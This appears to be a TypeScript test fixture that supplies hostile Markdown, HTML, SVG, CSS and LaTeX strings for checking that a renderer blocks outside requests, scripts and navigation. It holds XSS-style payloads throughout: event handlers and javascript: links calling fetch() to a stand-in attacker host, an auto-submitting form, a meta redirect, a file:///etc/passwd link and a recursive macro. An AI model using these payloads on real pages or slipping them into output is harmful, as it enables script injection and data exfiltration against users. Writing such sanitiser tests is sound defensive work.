/**
 * Returns texts by which an answer or a document may try to make a browser send requests to `evil`, run a script, or
 * leave the page.
 */
export const hostileTexts = (evil: string): Readonly<Record<string, string>> => ({
  images: `看图 ![x](${evil}/a.png) ![y][i] [![z](${evil}/c.png)](${evil}/d) ![](//${evil.slice(7)}/e.png)\n\n[i]: ${evil}/b.png`,
  html: [
    `<img src="${evil}/f.png" srcset="${evil}/g.png 2x" onerror="fetch('${evil}/h')">`,
    `<script src="${evil}/i.js"></script><script>fetch('${evil}/j')</script>`,
    `<link rel="stylesheet" href="${evil}/k.css"><link rel="preconnect" href="${evil}"><link rel="prefetch" href="${evil}/l">`,
    `<meta http-equiv="refresh" content="0;url=${evil}/m"><base href="${evil}/">`,
    `<iframe src="${evil}/n"></iframe><object data="${evil}/o"></object><embed src="${evil}/p">`,
    `<video src="${evil}/q" poster="${evil}/r.png" autoplay></video><audio src="${evil}/s" autoplay></audio>`,
    `<form action="${evil}/t" method="post"><input name="q" autofocus onfocus="this.form.submit()"><button>同意</button></form>`,
    `<body background="${evil}/u.png" onload="fetch('${evil}/v')"><details open ontoggle="fetch('${evil}/w')">x</details>`,
  ].join('\n\n'),
  styles: `<style>@import url("${evil}/aa.css"); body{background:url(${evil}/ab.png)}</style>\n\n<div style="background:url('${evil}/ac.png')">样式</div>`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${evil}/ad')"><image href="${evil}/ae.png"/><use href="${evil}/af.svg#x"/><foreignObject><img src="${evil}/ag.png"></foreignObject></svg>`,
  links: [
    `[甲](javascript:fetch('${evil}/ah'))`,
    `[乙](data:text/html,<script>fetch('${evil}/ai')</script>)`,
    `[丙](vbscript:x) [丁](//${evil.slice(7)}/aj) [戊](/api/user/logout) [己](file:///etc/passwd)`,
    `<javascript:alert(1)> <${evil}/ak> ${evil}/al www.example.com a@example.com`,
    `[庚](${evil}/am "标题") [辛][j]\n\n[j]: javascript:fetch('${evil}/an')`,
  ].join('\n\n'),
  formulas: [
    `$\\href{${evil}/ao}{x}$ $\\href{javascript:fetch('${evil}/ap')}{y}$ $\\url{${evil}/aq}$`,
    `$\\includegraphics[height=1em]{${evil}/ar.png}$ $\\htmlStyle{background:url(${evil}/as)}{z}$ $\\htmlId{root}{w}$`,
    `$$\\def\\a{\\a\\a}\\a$$`,
  ].join('\n\n'),
  code: `\`\`\`html\n<img src="${evil}/at.png">\n\`\`\`\n\n\`\`\`mermaid\ngraph TD; A-->B; click A href "${evil}/au"\n\`\`\`\n\n| ![x](${evil}/av.png) | <img src="${evil}/aw.png"> |\n|---|---|\n| 1 | [x](javascript:1) |\n\n脚注[^1]\n\n[^1]: ![x](${evil}/ax.png)`,
})
